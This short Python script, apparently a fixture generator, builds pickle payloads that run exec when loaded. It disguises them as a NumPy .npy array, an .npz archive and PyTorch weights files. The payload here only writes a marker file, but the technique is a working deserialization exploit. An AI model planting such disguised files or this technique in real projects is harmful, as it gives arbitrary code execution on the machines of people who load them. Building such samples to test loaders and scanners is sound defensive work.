# Outputs that are programs to whoever unpickles them.
import io
import pickle
import zipfile


class Executed:
    def __reduce__(self):
        return (exec, ("open('executed', 'w').write('x')",))


bomb = pickle.dumps(Executed())
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
header += b" " * (118 - len(header) - 1) + b"\n"
array = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + bomb
open("array.npy", "wb").write(array)
open("weights.pkl", "wb").write(bomb)
with zipfile.ZipFile("data.npz", "w") as archive:
    archive.writestr("images.npy", array)
    archive.writestr("labels.npy", array)
with zipfile.ZipFile("weights.pt", "w") as archive:
    archive.writestr("weights/data.pkl", bomb)
    archive.writestr("weights/version", "3\n")
    archive.writestr("weights/byteorder", "little")
